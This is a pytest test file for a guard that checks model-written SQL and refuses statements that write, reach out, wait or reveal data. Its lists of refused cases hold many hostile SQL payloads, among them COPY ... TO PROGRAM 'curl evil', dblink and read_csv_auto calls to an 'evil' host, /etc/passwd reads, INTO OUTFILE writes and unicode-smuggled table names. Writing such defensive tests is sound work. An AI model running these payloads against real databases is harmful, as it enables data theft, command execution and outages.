"""SQL that a model may have written: what could write, reach out, wait or reveal is refused, what only reads runs."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.tables.safety import Allowed, Dialect, SqlRefused, prove
from tests.plugins.skips import does_not_apply

TABLES = {
    "customers": ("id", "name", "region", "joined"),
    "orders": ("id", "customer_id", "product_id", "amount", "quantity", "ordered", "status"),
    "products": ("id", "title", "price", "category"),
}
DIALECTS: tuple[Dialect, ...] = ("sqlite", "postgres", "mysql", "duckdb")


def allowed(dialect: Dialect) -> Allowed:
    return Allowed(dialect, TABLES)


EVERYWHERE = """
DROP TABLE orders
DELETE FROM orders
UPDATE orders SET amount = 0
INSERT INTO orders (id) VALUES (1)
INSERT INTO orders SELECT * FROM orders
CREATE TABLE x AS SELECT * FROM orders
CREATE VIEW v AS SELECT * FROM orders
ALTER TABLE orders ADD COLUMN x INT
TRUNCATE TABLE orders
GRANT ALL ON orders TO public
SELECT 1; DROP TABLE orders
SELECT 1; SELECT 2
SELECT * FROM orders; DELETE FROM orders; --
BEGIN; DELETE FROM orders; COMMIT
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x
WITH x AS (UPDATE orders SET amount = 0 RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO orders (id) VALUES (9) RETURNING *) SELECT * FROM x
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n
SELECT * INTO backup FROM orders
SELECT * FROM secrets
SELECT * FROM users
SELECT password FROM customers
SELECT customers.password FROM customers
SELECT * FROM orders WHERE id IN (SELECT id FROM secrets)
SELECT (SELECT max(token) FROM secrets) FROM orders
SELECT * FROM orders UNION SELECT * FROM secrets
SELECT * FROM orders JOIN secrets ON secrets.id = orders.id
SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM secrets)
SELECT * FROM (SELECT * FROM secrets) AS s
SELECT * FROM orders WHERE id = (WITH secrets AS (SELECT 1 AS id) SELECT id FROM secrets)
WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1 AS id) SELECT * FROM a
SELECT * FROM secrets WHERE id IN (SELECT id FROM (WITH secrets AS (SELECT 1 AS id) SELECT id FROM secrets) AS q)
SELECT * FROM information_schema.tables
SELECT * FROM other.orders
SELECT * FROM main.orders
SELECT * FROM public.orders
SELECT * FROM db.public.orders
SELECT * FROM orders FOR UPDATE
SELECT * FROM "orders; DROP TABLE orders"
SELECT load_extension('evil')
SELECT pg_sleep(10)
SELECT sleep(10)
SELECT benchmark(100000000, md5('x'))
SELECT version()
SELECT user()
SELECT current_user
SELECT session_user
SELECT database()
SELECT @@version
SELECT @x := 1
SELECT :x
SELECT ?
SELECT $1
SELECT repeat('x', 1000000000)
SELECT rpad('x', 1000000000, 'x')
SELECT lpad('x', 1000000000, 'x')
SELECT space(1000000000)
SELECT zeroblob(1000000000)
SELECT randomblob(1000000000)
SELECT printf('%.1000000000c', 'x')
SELECT format('%1000000000s', 'x')
SELECT hex(zeroblob(100))
SELECT md5(name) FROM customers
SELECT random() FROM orders
SELECT uuid()
SELECT nextval('s')
SELECT set_config('x', 'y', false)
SELECT current_setting('data_directory')
SELECT * FROM generate_series(1, 1000000000)
SELECT * FROM unnest(ARRAY[1, 2])
SELECT * FROM json_each('[1,2]')
SELECT getenv('HOME')
SELECT xmlparse(document '<x/>')
SELECT sys_exec('id')
SELECT extractvalue(1, concat(0x7e, version()))
SELECT updatexml(1, concat(0x7e, version()), 1)
SELECT * FROM orders PROCEDURE ANALYSE()
EXPLAIN DELETE FROM orders
EXPLAIN ANALYZE SELECT * FROM orders
ANALYZE orders
VACUUM
CALL do_it()
SET x = 1
SHOW TABLES
DESCRIBE orders
USE mysql
MERGE INTO orders USING customers ON orders.id = customers.id WHEN MATCHED THEN DELETE
REPLACE INTO orders (id) VALUES (1)
LOCK TABLE orders
COMMENT ON TABLE orders IS 'x'
DECLARE c CURSOR FOR SELECT * FROM orders
PREPARE p AS DELETE FROM orders
EXECUTE p
DO $$ BEGIN DELETE FROM orders; END $$
SELECT 'x
SELECT * FROM orders WHERE
this is no SQL at all
()
SELECT
SELECT * FROM orders LIMIT (SELECT 1)
SELECT * FROM orders LIMIT 1 + 1
VALUES (1), (2)
SELECT /*! SLEEP(5), */ 1
SELECT /*!50000 load_file('/etc/passwd') */ 1
SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM orders
SELECT 1 -- \x00 hidden
SELECT o.secret FROM orders AS o
SELECT nothing FROM orders
SELECT orders.* FROM customers
SELECT * FROM orders NATURAL JOIN secrets
SELECT * FROM orders, secrets
SELECT * FROM orders CROSS JOIN LATERAL (SELECT * FROM secrets) AS x
SELECT CAST((SELECT token FROM secrets) AS INT)
SELECT count(*) FROM orders GROUP BY (SELECT token FROM secrets)
SELECT * FROM orders ORDER BY (SELECT token FROM secrets)
SELECT sum(amount) OVER (ORDER BY (SELECT token FROM secrets)) FROM orders
SELECT CASE WHEN (SELECT count(*) FROM secrets) > 0 THEN 1 END FROM orders
SELECT * FROM orders WHERE amount > ALL (SELECT token FROM secrets)
SELECT * FROM orders WHERE amount BETWEEN 1 AND (SELECT max(id) FROM secrets)
SELECT ＊ FROM orders
SELECT * FROM ｓecrets
SELECT * FROM secr\u200bets
SELECT * FROM orders\u2028; DROP TABLE orders
""".strip().split("\n")  # noqa: RUF001
SPECIAL: dict[Dialect, list[str]] = {
    "sqlite": """
PRAGMA table_info(orders)
PRAGMA writable_schema = 1
ATTACH DATABASE '/tmp/x.db' AS x
ATTACH '/etc/passwd' AS p
DETACH DATABASE main
SELECT * FROM sqlite_master
SELECT * FROM sqlite_schema
SELECT * FROM sqlite_temp_master
SELECT * FROM pragma_table_info('orders')
SELECT * FROM pragma_database_list
SELECT rowid FROM orders
SELECT _rowid_ FROM orders
SELECT readfile('/etc/passwd')
SELECT writefile('/tmp/x', 'y')
SELECT edit('x')
SELECT fts3_tokenizer('x')
SELECT sqlite_version()
SELECT sqlite_compileoption_get(1)
SELECT last_insert_rowid()
SELECT changes()
SELECT * FROM dbstat
SELECT * FROM bytecode('SELECT 1')
SELECT * FROM orders INDEXED BY x
REINDEX
VACUUM INTO '/tmp/copy.db'
""".strip().split("\n"),
    "postgres": """
COPY orders TO PROGRAM 'curl evil'
COPY orders FROM '/etc/passwd'
COPY (SELECT * FROM orders) TO '/tmp/x'
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('.')
SELECT pg_stat_file('x')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_get(1)
SELECT dblink('host=evil', 'SELECT 1')
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
SELECT query_to_xml('DELETE FROM orders', true, true, '')
SELECT table_to_xml('secrets', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_advisory_lock(1)
SELECT pg_notify('x', 'y')
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT txid_current()
SELECT inet_server_addr()
SELECT pg_sleep_for('5 minutes')
SELECT pg_sleep_until('tomorrow')
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM pg_shadow
SELECT * FROM pg_stat_activity
SELECT * FROM pg_user
SELECT ctid FROM orders
SELECT xmin FROM orders
SELECT tableoid FROM orders
SELECT 'orders'::regclass
SELECT has_table_privilege('secrets', 'select')
SELECT to_regclass('secrets')
SELECT col_description(1, 1)
SELECT obj_description(1)
SELECT pg_get_viewdef('v')
SELECT ts_stat('SELECT 1')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT * FROM ROWS FROM (generate_series(1, 5)) AS x
SELECT * FROM orders TABLESAMPLE SYSTEM (10)
SELECT * FROM ONLY orders
SELECT E'\\\\x41' FROM pg_database
SELECT row_to_json(s) FROM secrets AS s
LISTEN x
NOTIFY x
CREATE EXTENSION dblink
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
SECURITY LABEL ON TABLE orders IS 'x'
REFRESH MATERIALIZED VIEW v
""".strip().split("\n"),
    "mysql": """
SELECT load_file('/etc/passwd')
SELECT * FROM orders INTO OUTFILE '/tmp/x'
SELECT * FROM orders INTO DUMPFILE '/tmp/x'
SELECT amount INTO @x FROM orders
SELECT * FROM mysql.user
SELECT * FROM performance_schema.threads
SELECT get_lock('x', 10)
SELECT release_lock('x')
SELECT master_pos_wait('x', 1)
SELECT row_count()
SELECT found_rows()
SELECT connection_id()
SELECT last_insert_id()
SELECT name_const('x', 1)
SELECT * FROM orders LOCK IN SHARE MODE
SELECT * FROM orders PARTITION (p0)
SELECT * FROM orders USE INDEX (x)
LOAD DATA INFILE '/etc/passwd' INTO TABLE orders
HANDLER orders OPEN
INSTALL PLUGIN x SONAME 'y'
KILL 1
FLUSH TABLES
SELECT json_table('[]', '$[*]' COLUMNS (a INT PATH '$'))
SELECT * FROM json_table('[]', '$[*]' COLUMNS (a INT PATH '$')) AS t
SELECT 0x414243 INTO OUTFILE '/tmp/x'
""".strip().split("\n"),
    "duckdb": """
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('http://evil/x.csv')
SELECT * FROM read_parquet('s3://evil/x')
SELECT * FROM read_json('x')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_blob('/etc/passwd')
SELECT * FROM '/etc/passwd'
SELECT * FROM 'http://evil/x.csv'
SELECT * FROM glob('/*')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets()
SELECT * FROM postgres_scan('host=evil', 'public', 'x')
SELECT * FROM sqlite_scan('x.db', 't')
SELECT * FROM query('SELECT 1')
SELECT * FROM query_table('secrets')
INSTALL httpfs
LOAD httpfs
COPY orders TO '/tmp/x.csv'
EXPORT DATABASE '/tmp/x'
IMPORT DATABASE '/tmp/x'
ATTACH '/tmp/x.db'
CHECKPOINT
PRAGMA database_size
SET enable_external_access = true
SELECT getvariable('x')
SELECT current_setting('threads')
SELECT * FROM range(1000000000)
SELECT * FROM repeat(1, 1000000000)
SELECT list_transform([1], x -> x + 1)
SELECT COLUMNS('.*') FROM orders
PIVOT orders ON status USING sum(amount)
SUMMARIZE orders
SELECT * EXCLUDE (id) FROM secrets
SELECT nextval('x')
""".strip().split("\n"),
}
HOSTILE = [(dialect, text) for dialect in DIALECTS for text in [*EVERYWHERE, *SPECIAL[dialect]]]


def test_there_are_enough() -> None:
    assert len({text for _, text in HOSTILE}) >= 200
    assert len(HONEST) >= 100


@pytest.mark.parametrize(("dialect", "text"), HOSTILE)
def test_hostile_sql_is_refused(dialect: Dialect, text: str) -> None:
    with pytest.raises(SqlRefused):
        prove(text.encode().decode("unicode_escape") if "\\x00" in text else text, allowed(dialect), 100)


@pytest.mark.parametrize(
    "text", ["(" * 5000 + "1" + ")" * 5000, "SELECT " + "1+" * 3000 + "1", "SELECT " + "x" * 20_000]
)
def test_monsters_are_refused(text: str) -> None:
    with pytest.raises(SqlRefused):
        prove(text, allowed("sqlite"), 100)


@given(st.text(max_size=200) | st.lists(st.sampled_from([*EVERYWHERE, *SPECIAL["sqlite"]]), max_size=3).map(" ".join))
def test_whatever_comes_it_is_refused_or_one_select(text: str) -> None:
    try:
        written = prove(text, allowed("sqlite"), 5)
    except SqlRefused:
        return
    assert written.startswith(("SELECT", "WITH", "("))
    assert ";" not in written


MEASURES = ["count(*)", "sum(o.amount)", "avg(o.amount)", "min(o.amount)", "max(o.quantity)", "round(avg(o.amount), 2)"]
GROUPS = ["c.region", "o.status", "p.category", "strftime('%Y-%m', o.ordered)", "c.name", "substr(p.title, 1, 3)"]
_FROM = "FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN products p ON p.id = o.product_id"
HONEST = [
    f"SELECT {group} AS g, {measure} AS m {_FROM} GROUP BY {group} ORDER BY m DESC"
    for group in GROUPS
    for measure in MEASURES
]
HONEST += [f"SELECT {measure} {_FROM} WHERE {where}" for measure in MEASURES[:4] for where in (
    "o.status = 'paid'", "o.status <> 'open' AND o.amount > 10", "o.ordered >= date('now', '-1 month')", "c.region IN ('north', 'south')",
    "p.category LIKE 'toy%'", "o.amount BETWEEN 5 AND 50", "p.id IS NULL", "NOT (c.region = 'west' OR o.quantity > 3)",
    "o.amount > (SELECT avg(amount) FROM orders)", "o.customer_id IN (SELECT id FROM customers WHERE region = 'north')",
    "EXISTS (SELECT 1 FROM products q WHERE q.id = o.product_id AND q.price > 10)",
)]  # fmt: skip
HONEST += """
SELECT * FROM orders
SELECT customers.* FROM customers
SELECT count(DISTINCT customer_id) FROM orders
SELECT DISTINCT region FROM customers ORDER BY region
SELECT name FROM customers UNION SELECT title FROM products ORDER BY 1
SELECT id FROM customers EXCEPT SELECT customer_id FROM orders
SELECT id FROM customers INTERSECT SELECT customer_id FROM orders
WITH monthly AS (SELECT strftime('%Y-%m', ordered) AS m, sum(amount) AS s FROM orders GROUP BY 1) SELECT m, s FROM monthly
WITH a AS (SELECT * FROM orders), b AS (SELECT customer_id, sum(amount) AS s FROM a GROUP BY 1) SELECT avg(s) FROM b
SELECT region, avg(s) FROM (SELECT c.region, o.customer_id, sum(o.amount) AS s FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY 1, 2) t GROUP BY region
SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY ordered) AS n FROM orders
SELECT id, amount - lag(amount) OVER (ORDER BY ordered) FROM orders
SELECT ordered, sum(amount) OVER (ORDER BY ordered ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) FROM orders
SELECT rank() OVER (ORDER BY amount DESC), id FROM orders
SELECT ntile(4) OVER (ORDER BY amount), id FROM orders
SELECT CASE WHEN amount > 50 THEN 'large' WHEN amount > 10 THEN 'middle' ELSE 'small' END AS size, count(*) FROM orders GROUP BY 1
SELECT sum(CASE WHEN status = 'paid' THEN amount ELSE 0 END) * 1.0 / sum(amount) FROM orders
SELECT count(*) FILTER (WHERE status = 'paid') FROM orders
SELECT upper(name), length(name), trim(name), replace(name, 'a', 'b') FROM customers
SELECT name || ' of ' || region FROM customers
SELECT coalesce(category, 'none'), count(*) FROM products GROUP BY 1 HAVING count(*) > 1
SELECT cast(amount AS INTEGER), abs(amount), round(amount, 1) FROM orders
SELECT julianday('2026-11-21') - julianday(joined) FROM customers
SELECT date(ordered, 'start of month') AS month, count(*) FROM orders GROUP BY month
SELECT c.name FROM customers c WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)
SELECT c.name, count(o.id) FROM customers AS c LEFT JOIN orders AS o ON o.customer_id = c.id GROUP BY c.name ORDER BY 2 DESC LIMIT 3
SELECT max(amount) FROM orders; -- the largest
/* how many */ SELECT count(*) FROM orders
SELECT min(ordered), max(ordered) FROM orders WHERE status IN ('paid', 'open')
SELECT p.category, group_concat(p.title, ', ') FROM products p GROUP BY p.category
SELECT json_extract('{"a": [4, 5]}', '$.a[1]'), '{"a": 1}' ->> '$.a', '{"a": 1}' -> '$.a' FROM orders
SELECT json_type('[1]'), json_valid(name), json_array_length('[1, 2]') FROM customers
SELECT printf('%05.2f of %s', amount, status), format('%d', quantity) FROM orders
SELECT hex(name), quote(name), typeof(amount), likely(1) FROM customers, orders
SELECT region FROM customers WHERE region GLOB 'n*' GROUP BY region
SELECT json_group_array(title), category FROM products GROUP BY category
""".strip().split("\n")


@pytest.fixture(scope="module")
def database() -> Iterator[sqlite3.Connection]:
    connection = sqlite3.connect(":memory:")
    for table, columns in TABLES.items():
        connection.execute(f"CREATE TABLE {table} ({', '.join(columns)}, secret)")
    connection.execute("CREATE TABLE secrets (id, token)")
    for number in range(200):
        region = ("north", "south", "west")[number % 3]
        connection.execute(
            "INSERT INTO customers VALUES (?, ?, ?, ?, 's')", (number, f"c{number}", region, "2024-01-01")
        )
        row = (
            number,
            number % 50,
            number % 7,
            number * 1.5,
            number % 5,
            f"2024-{number % 12 + 1:02}-01",
            ("paid", "open")[number % 2],
        )
        connection.execute("INSERT INTO orders VALUES (?, ?, ?, ?, ?, ?, ?, 's')", row)
        connection.execute("INSERT INTO products VALUES (?, ?, ?, ?, 's')", (number, f"p{number}", number, "toys"))
    yield connection
    connection.close()


@pytest.mark.parametrize("text", HONEST)
def test_honest_sql_runs_and_gives_the_same(database: sqlite3.Connection, text: str) -> None:
    written = prove(text, allowed("sqlite"), 100_000)
    rows = database.execute(written).fetchall()
    columns = len(rows[0]) if rows else 0
    if "*" not in text.split("FROM")[0]:
        assert sorted(map(repr, rows)) == sorted(map(repr, database.execute(text.split(";")[0]).fetchall()))
    assert "s" not in [value for row in rows for value in row if columns > 4]
    assert len(database.execute(prove(text, allowed("sqlite"), 2)).fetchall()) <= 3


OF_ONE_DIALECT: list[tuple[Dialect, str]] = [
    ("postgres", "name ->> 'a', name #>> '{a,b}', name -> 'a', jsonb_array_length(name), jsonb_typeof(name)"),
    ("postgres", "name @> '{}', jsonb_extract_path_text(name, 'a'), array_agg(region), (array_agg(name))[1]"),
    ("postgres", "split_part(name, ',', 1), regexp_replace(name, '[0-9]+', '#'), name ~ '^a', lpad(name, 5, '0')"),
    ("postgres", "to_number(name, '99'), format('%s', name), date_bin('1 day', joined, joined), pi(), reverse(name)"),
    ("mysql", "json_extract(name, '$.a'), json_unquote(json_extract(name, '$.a')), json_length(name), now()"),
    ("sqlite", "id & 1, id | 2, ~id, id << 2"),
    ("duckdb", "age(DATE '2024-01-01', DATE '2020-01-01'), datepart('month', joined::date), id & 1, format('{:,}', 5)"),
    ("mysql", "microsecond(joined), id ^ 1"),
    ("mysql", "substring_index(name, ',', 1), format(id, 2), lpad(name, 5, '0'), dayname(joined), name REGEXP '^a'"),
    ("mysql", "field(name, 'x'), find_in_set('x', name), sec_to_time(id), strcmp(name, region), elt(1, name)"),
    ("duckdb", "name ->> '$.a', json_extract(name, '$.a'), json_keys(name), list(region), (list(region))[1], now()"),
    ("duckdb", "printf('%d', id), format('{}', id), regexp_extract(name, '[0-9]+'), split_part(name, ',', 1)"),
    ("duckdb", "dayname(joined), monthname(joined), epoch(joined), lpad(name, 5, '0'), levenshtein(name, region)"),
    ("sqlite", "json_extract(name, '$.a'), json_array_length(name), printf('%d', id), hex(name), quote(name)"),
]


@pytest.mark.parametrize(("dialect", "terms"), OF_ONE_DIALECT)
def test_functions_that_only_read_pass(dialect: Dialect, terms: str) -> None:
    prove(f"SELECT {terms} FROM customers", allowed(dialect), 10)


@pytest.mark.parametrize(
    "term",
    [
        "printf('%1000000d', id)",
        "printf('%*d', 1000000, id)",
        "printf(name, id)",
        "printf('%.101f', id)",
        "lpad(name, 1000000, 'x')",
        "lpad(name, id, 'x')",
        "repeat(name, id)",
        "repeat(repeat(repeat(name, 100), 100), 100)",
        "regexp_replace(name, region, 'x')",
        "regexp_replace(name, 'x', region)",
        r"name ~ '(a+)+\1'",
        "json_extract(name, '$..a')",
        "name LIKE lpad('%', 50, '%')",
        "name LIKE repeat('%a', 50)",
    ],
)
@pytest.mark.parametrize("dialect", DIALECTS)
def test_functions_stay_small(dialect: Dialect, term: str) -> None:
    with pytest.raises(SqlRefused):
        prove(f"SELECT {term} FROM customers", allowed(dialect), 10)


@pytest.mark.parametrize("dialect", ["postgres", "mysql", "duckdb"])
@pytest.mark.parametrize(
    "text",
    [
        "SELECT region, avg(amount) FROM orders JOIN customers ON customers.id = orders.customer_id GROUP BY region",
        "SELECT date_trunc('month', ordered) AS m, sum(amount) FROM orders GROUP BY 1 ORDER BY 1",
        "SELECT extract(year FROM ordered) AS y, count(*) FROM orders GROUP BY 1",
        "SELECT count(*) FROM orders WHERE ordered > current_date - INTERVAL '1' MONTH",
        "WITH t AS (SELECT customer_id, sum(amount) AS s FROM orders GROUP BY 1) SELECT avg(s) FROM t",
    ],
)
def test_honest_sql_of_other_dialects_passes(dialect: Dialect, text: str) -> None:
    if dialect == "mysql" and "date_trunc" in text:
        does_not_apply("date_trunc is no function of MySQL")
    assert prove(text, allowed(dialect), 10).endswith("LIMIT 10")
